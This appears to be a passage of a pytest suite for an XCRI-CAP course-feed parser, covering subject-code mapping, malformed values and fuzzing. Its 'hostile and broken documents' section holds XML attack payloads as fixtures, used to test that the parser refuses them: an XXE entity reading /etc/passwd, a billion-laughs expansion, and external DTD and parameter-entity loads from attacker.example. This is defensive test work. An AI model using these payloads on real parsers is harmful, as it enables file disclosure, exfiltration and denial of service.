    ('<dc:subject identifier="KC.3">KC.3</dc:subject>', {"scheme": "LDCS", "code": "KC.3"}),
    ("<dc:subject>CK.1</dc:subject>", {"scheme": "LDCS", "code": "CK.1"}),
    ("<dc:subject>LDCS1: DB.</dc:subject>", {"scheme": "LDCS", "code": "DB."}),
    ("<dc:subject>LDCS: KC.3</dc:subject>", {"scheme": "LDCS", "code": "KC.3"}),
    # JACS 3.0 in the forms feeds use
    ('<dc:subject xsi:type="courseDataProgramme:JACS3" identifier="g400">Computer science</dc:subject>',
     {"scheme": "JACS3", "code": "G400"}),
    ('<dc:subject xsi:type="hesa:jacs" identifier="http://jacs.dataincubator.org/g400">Computer science</dc:subject>',
     {"scheme": "JACS3", "code": "G400"}),
    ('<dc:subject xsi:type="courseDataProgramme:JACS3">G400 Computer science</dc:subject>',
     {"scheme": "JACS3", "code": "G400"}),
    ('<dc:subject xsi:type="courseDataProgramme:JACS3">(W830) Creative writing</dc:subject>',
     {"scheme": "JACS3", "code": "W830"}),
    ("<dc:subject>JACS 3.0: V100</dc:subject>", {"scheme": "JACS3", "code": "V100"}),
    ("<dc:subject>G400</dc:subject>", {"scheme": "JACS3", "code": "G400"}),
])
def test_ldcs_and_jacs_subjects_are_read_in_the_forms_feeds_write_them(subject, expected, validator):
    raw = only(catalog(course(subject=subject)))
    assert raw["subjects"] == [expected]
    assert validator.load(raw)["subjects"][0]["cah1"]


@pytest.mark.parametrize("text", ["St.", "Dr.", "Art", "Business studies", "Level 3"])
def test_words_are_not_taken_for_ldcs_codes(text):
    raw = only(catalog(course(subject=f"<dc:subject>{text}</dc:subject>")))
    assert "subjects" not in raw and raw["subject_keywords"] == [text]


def test_an_unknown_ldcs_code_is_sent_on_for_the_validator_to_refuse_by_name(validator):
    raw = only(catalog(course(subject='<dc:subject xsi:type="courseDataProgramme:LDCS" identifier="ZZ.9"/>')))
    assert raw["subjects"] == [{"scheme": "LDCS", "code": "ZZ.9"}]
    with pytest.raises(ValidationError) as caught:
        validator.load(raw)
    assert [(e.field, e.reason) for e in validator.errors(caught.value)] == [
        ("subjects[0].code", "'ZZ.9' is not an LDCS code")
    ]


def test_absurd_numbers_and_odd_markup_are_left_out_rather_than_breaking_the_record():
    huge = "9" * 40
    credit = (
        f"<mlo:credit><credit:scheme>CATS</credit:scheme><credit:value>{huge}</credit:value></mlo:credit>"
    )
    presentation = (
        f"<presentation><mlo:start>any time</mlo:start><mlo:duration interval='P{huge}Y'>{huge} years</mlo:duration>"
        f"<mlo:places>\u00b2</mlo:places><mlo:engagement>{'9' * 400} hours</mlo:engagement>"
        f"<mlo:cost>\u00a3{huge}</mlo:cost></presentation>"
    )
    extra = "<abstract>&lt;p&gt;Broken &lt;![&lt; markup&lt;/p&gt;</abstract>"
    raw = only(catalog(course(extra, credit=credit, presentation=presentation)))
    orjson.dumps(raw)
    assert "credit" not in raw and "cost" not in raw and "study_hours" not in raw
    assert raw["schedule"] == {"type": "learner-led"}
    assert raw["summary"] == "Broken <![< markup"


# --- hostile and broken documents -------------------------------------------------------------------------


XXE = b"""<?xml version="1.0"?>
<!DOCTYPE catalog [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<catalog xmlns="http://xcri.org/profiles/1.2/catalog"><provider><course><title>&secret;</title></course></provider></catalog>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE catalog [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<catalog><provider><course><title>&lol9;</title></course></provider></catalog>"""

INTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE catalog [<!ENTITY provider "University of Northgate">]>
<catalog><provider><title>&provider;</title></provider></catalog>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE catalog SYSTEM "http://attacker.example/xcri.dtd">
<catalog><provider/></catalog>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE catalog [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<catalog/>"""


@pytest.mark.parametrize(
    "data",
    [XXE, BILLION_LAUGHS, INTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["external-entity", "billion-laughs", "internal-entity", "external-dtd", "parameter-entity"],
)
def test_documents_with_a_dtd_or_entities_are_refused_whole(data):
    with pytest.raises(FeedError, match="DTD|entit|external"):
        xcri_cap.parse(data)


def test_not_well_formed_xml_names_the_line():
    data = b'<?xml version="1.0"?>\n<catalog>\n  <provider><course></provider>\n</catalog>'
    with pytest.raises(FeedError, match=r"not well-formed XML: .*line 3"):
        xcri_cap.parse(data)


@pytest.mark.parametrize(
    "data",
    [
        b"<rss><channel/></rss>",
        b'<catalog xmlns="http://www.w3.org/2005/Atom"/>',
        b'<provider xmlns="http://xcri.org/profiles/1.2/catalog"/>',
    ],
    ids=["rss", "catalog-in-another-namespace", "provider-as-root"],
)
def test_a_root_other_than_an_xcri_catalog_is_refused(data):
    with pytest.raises(FeedError, match="root element"):
        xcri_cap.parse(data)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   ",
        b'{"courses": []}',
        b'<?xml version="1.0" encoding="x-no-such-encoding"?><catalog/>',
        '<?xml version="1.0" encoding="Shift_JIS"?><catalog/>'.encode("shift_jis"),
    ],
    ids=["empty", "blank", "json", "unknown-encoding", "multi-byte-encoding"],
)
def test_documents_that_cannot_be_read_raise_feed_error(data):
    with pytest.raises(FeedError):
        xcri_cap.parse(data)


def test_an_empty_catalog_is_an_empty_feed():
    document = xcri_cap.parse(b'<catalog xmlns="http://xcri.org/profiles/1.2/catalog"/>')
    assert document.provider is None and list(document.items) == [] and document.total == 0


# --- properties ---------------------------------------------------------------------------------------------


def check_document(document: FeedDocument) -> None:
    for item in document.items:
        assert isinstance(item, Record | Rejection)
        if isinstance(item, Record):
            assert item.id == item.raw["id"]
            orjson.dumps(item.raw)  # JSON types only
    assert all(isinstance(note, str) for note in document.unmapped)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.binary(max_size=600)
    | st.binary(max_size=300).map(lambda tail: b'<?xml version="1.0"?><catalog>' + tail)
)
def test_arbitrary_bytes_raise_nothing_but_feed_error(data):
    try:
        document = xcri_cap.parse(data)
    except FeedError:
        return
    check_document(document)


NAMES = [
    "provider",
    "course",
    "presentation",
    "identifier",
    "title",
    "url",
    "subject",
    "description",
    "abstract",
    "learningOutcome",
    "objective",
    "prerequisite",
    "assessment",
    "credit",
    "scheme",
    "level",
    "value",
    "qualification",
    "awardedBy",
    "start",
    "end",
    "applyUntil",
    "places",
    "cost",
    "attendanceMode",
    "studyMode",
    "languageOfInstruction",
    "engagement",
    "duration",
    "applyTo",
    "venue",
    "p",
    "li",
    "ul",
]
PREFIXES = ["", "dc:", "mlo:", "credit:", "x:", "xhtml:"]
ATTRIBUTES = ["identifier", "dtf", "interval", "xsi:type", "x:flag"]
# Values the adapter reads, the edge cases that once broke it, and anything at all.
SPECIAL_TEXTS = (
    "", "7", "SCQF 11", "CATS", "£850", "2025-01-13", "1900-01-01", "any time", "G400", "100366", "I100",
    "DS", "CM", "https://example.ac.uk/x", "P6M", "• a\n• b", "&lt;p&gt;x", "9" * 40, "£" + "9" * 40,
    "\u00b2", "<p><![<", "P99999999Y",
)  # fmt: skip
TEXTS = st.one_of(
    st.sampled_from(SPECIAL_TEXTS),
    st.text(
        st.characters(codec="utf-8", exclude_categories=("Cs", "Cc"), exclude_characters="\ufffe\uffff"),
        max_size=20,
    ),
)


@st.composite
def element(draw, children):
    name = draw(st.sampled_from(PREFIXES)) + draw(st.sampled_from(NAMES))
    attributes = draw(st.dictionaries(st.sampled_from(ATTRIBUTES), TEXTS, max_size=2))
    attrs = "".join(f" {key}={quoteattr(value)}" for key, value in attributes.items())
    inner = escape(draw(TEXTS)) + "".join(draw(children))
    return f"<{name}{attrs}>{inner}</{name}>"


TREES = st.recursive(
    st.just(""), lambda inner: st.lists(element(inner), max_size=4).map("".join), max_leaves=25
)
FIELDS = [
    "<dc:subject xsi:type={a} identifier={a}>{t}</dc:subject>",
    "<mlo:credit><credit:scheme>{t}</credit:scheme><credit:level>{t}</credit:level><credit:value>{t}</credit:value></mlo:credit>",
    "<presentation><mlo:start dtf={a}>{t}</mlo:start><end>{t}</end><applyUntil dtf={a}/><mlo:cost>{t}</mlo:cost>"
    "<attendanceMode identifier={a}>{t}</attendanceMode><mlo:duration interval={a}>{t}</mlo:duration>"
    "<mlo:places>{t}</mlo:places><mlo:languageOfInstruction>{t}</mlo:languageOfInstruction><applyTo>{t}</applyTo>"
    "<mlo:engagement>{t}</mlo:engagement></presentation>",
    "<learningOutcome>{t}</learningOutcome>",
    "<dc:description xsi:type={a}>{t}</dc:description>",
    "<mlo:level>{t}</mlo:level>",
    "<mlo:qualification><awardedBy>{t}</awardedBy><accreditedBy>{t}</accreditedBy><mlo:level>{t}</mlo:level></mlo:qualification>",
]


@st.composite
def course_field(draw):
    """One XCRI course element with arbitrary values where the adapter reads them."""
    template = draw(st.sampled_from(FIELDS))
    while "{a}" in template or "{t}" in template:
        template = template.replace("{a}", quoteattr(draw(TEXTS)), 1) if "{a}" in template else template
        template = template.replace("{t}", escape(draw(TEXTS)), 1) if "{t}" in template else template
    return template


IDENTIFIERS = st.sampled_from(
    ["", "<dc:identifier>C-1</dc:identifier>", "<mlo:url>https://example.ac.uk/c</mlo:url>"]
)
BODIES = TREES | st.lists(course_field(), max_size=8).map("".join)
COURSES = st.lists(st.builds("<course>{}{}</course>".format, IDENTIFIERS, BODIES), max_size=3)
FEEDS = TREES | COURSES.map(lambda courses: f"<provider>{''.join(courses)}</provider>")
ROOTS = st.sampled_from(
    [
        f'<catalog xmlns="{XCRI}"',
        f'<xcri:catalog xmlns:xcri="{XCRI}"',
        "<catalog",
        '<catalog xmlns="urn:other"',
    ]
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
@given(root=ROOTS, tree=FEEDS)
def test_arbitrary_small_xml_trees_give_only_records_and_rejections(root, tree, validator):
    name = root.split()[0][1:]
    declarations = (
        ' xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:mlo="http://purl.org/net/mlo" '
        'xmlns:credit="http://purl.org/net/cm" xmlns:x="urn:x" xmlns:xhtml="http://www.w3.org/1999/xhtml" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    )
    data = f"{root}{declarations}>{tree}</{name}>".encode()
    try:
        document = xcri_cap.parse(data)
    except FeedError:
        assert "urn:other" in root  # every tree here is well-formed: only the foreign root is refused
        return
    check_document(document)
    for item in document.items:
        if isinstance(item, Record):
            error_fields(validator, dict(item.raw))  # never anything but a ValidationError
